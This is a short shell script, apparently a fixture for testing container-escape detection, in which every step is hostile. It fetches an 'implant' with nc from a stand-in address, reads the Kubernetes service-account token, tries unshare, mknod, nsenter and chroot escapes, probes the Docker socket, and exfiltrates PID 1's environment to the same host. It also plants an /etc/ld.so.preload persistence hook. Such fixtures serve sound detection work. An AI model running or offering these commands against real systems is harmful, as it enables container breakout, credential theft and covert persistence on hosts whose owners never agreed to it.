# SPDX-License-Identifier: Apache-2.0
# From inside: tools that were brought along try the ways out, one after the other.
while ! test -e /tmp/go; do sleep 0.1; done
/bin/mkdir /tmp/t
/bin/nc 203.0.113.66 8001 </dev/null >/tmp/t/implant
/bin/chmod 755 /tmp/t/implant
/bin/cat /run/secrets/kubernetes.io/serviceaccount/token
for way in unshare mknod nsenter chroot; do /bin/cp /bin/busybox /tmp/t/$way; done
/tmp/t/unshare -m mount -t tmpfs none /mnt
/tmp/t/mknod /tmp/disk b 8 0
/tmp/t/nsenter -t 1 -m /bin/true
/tmp/t/chroot /mnt /bin/sh
nc local:/var/run/docker.sock </dev/null
/bin/cat /proc/1/environ >/tmp/.env
/tmp/t/implant 203.0.113.66 4444 /tmp/.env
echo '/tmp/t/lib.so' >/etc/ld.so.preload
touch /tmp/done
sleep 60
